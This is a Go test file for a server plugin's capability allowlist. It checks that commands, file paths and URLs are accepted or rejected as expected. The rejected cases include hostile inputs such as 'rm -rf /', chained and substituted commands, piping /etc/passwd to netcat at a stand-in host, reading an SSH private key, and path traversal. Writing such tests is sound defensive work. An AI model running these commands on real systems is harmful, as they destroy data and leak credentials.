// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 ServerHub Contributors

package capability_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Zhang142857/serverhub-sub000/internal/plugin"
	"github.com/Zhang142857/serverhub-sub000/internal/plugin/capability"
)

func TestAllowlist_CheckCommand(t *testing.T) {
	a := capability.DefaultAllowlist()

	tests := []struct {
		name    string
		command string
		args    []string
		allowed bool
	}{
		{name: "plain allowlisted", command: "ls", args: []string{"-la", "/tmp"}, allowed: true},
		{name: "allowlisted with inline args", command: "docker ps -a", allowed: true},
		{name: "not allowlisted", command: "rm", args: []string{"-rf", "/"}},
		{name: "absolute binary path", command: "/bin/ls"},
		{name: "chained with semicolon", command: "ls; rm -rf /"},
		{name: "chained with and", command: "ls /tmp && reboot"},
		{name: "pipe", command: "cat /etc/passwd | nc evil 1"},
		{name: "substitution in args", command: "cat", args: []string{"$(reboot)"}},
		{name: "backtick", command: "ls `reboot`"},
		{name: "empty", command: "   "},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := a.CheckCommand("p", tt.command, tt.args)
			if tt.allowed {
				assert.NoError(t, err)
				return
			}
			assert.ErrorIs(t, err, plugin.ErrCommandNotAllowed)
		})
	}
}

func TestAllowlist_CheckPaths(t *testing.T) {
	a := capability.DefaultAllowlist()

	tests := []struct {
		name      string
		path      string
		write     bool
		wantClean string
		allowed   bool
	}{
		{name: "read log", path: "/var/log/syslog", wantClean: "/var/log/syslog", allowed: true},
		{name: "read prefix itself", path: "/etc", wantClean: "/etc", allowed: true},
		{name: "read outside", path: "/root/.ssh/id_rsa"},
		{name: "similar prefix is not a prefix", path: "/etcetera/file"},
		{name: "relative path", path: "etc/passwd"},
		{name: "traversal normalised into allowed read", path: "/tmp/../etc/hosts", wantClean: "/etc/hosts", allowed: true},
		{name: "write tmp", path: "/tmp/out.txt", write: true, wantClean: "/tmp/out.txt", allowed: true},
		{name: "write etc denied", path: "/etc/passwd", write: true},
		{name: "write traversal denied", path: "/tmp/../etc/passwd", write: true},
		{name: "nul byte", path: "/tmp/a\x00b", write: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			check := a.CheckRead
			if tt.write {
				check = a.CheckWrite
			}
			clean, err := check("p", tt.path)
			if tt.allowed {
				require.NoError(t, err)
				assert.Equal(t, tt.wantClean, clean)
				return
			}
			assert.ErrorIs(t, err, plugin.ErrPathNotAllowed)
		})
	}
}

func TestAllowlist_CheckURL(t *testing.T) {
	a := capability.DefaultAllowlist()

	tests := []struct {
		url     string
		allowed bool
	}{
		{url: "https://api.github.com/repos/x/y", allowed: true},
		{url: "https://API.GitHub.com/", allowed: true},
		{url: "http://registry.npmjs.org/pkg", allowed: true},
		{url: "https://api.github.com.evil.io/"},
		{url: "https://api.github.com:8443/"},
		{url: "https://user:pw@api.github.com/"},
		{url: "ftp://api.github.com/"},
		{url: "file:///etc/passwd"},
		{url: "https://example.com/"},
		{url: "::not a url"},
	}

	for _, tt := range tests {
		t.Run(tt.url, func(t *testing.T) {
			_, err := a.CheckURL("p", tt.url)
			if tt.allowed {
				assert.NoError(t, err)
				return
			}
			assert.ErrorIs(t, err, plugin.ErrHostNotAllowed)
		})
	}
}

func TestNewAllowlist_RejectsRelativePrefix(t *testing.T) {
	_, err := capability.NewAllowlist(capability.AllowlistConfig{ReadPaths: []string{"var/log"}})
	assert.Error(t, err)
}
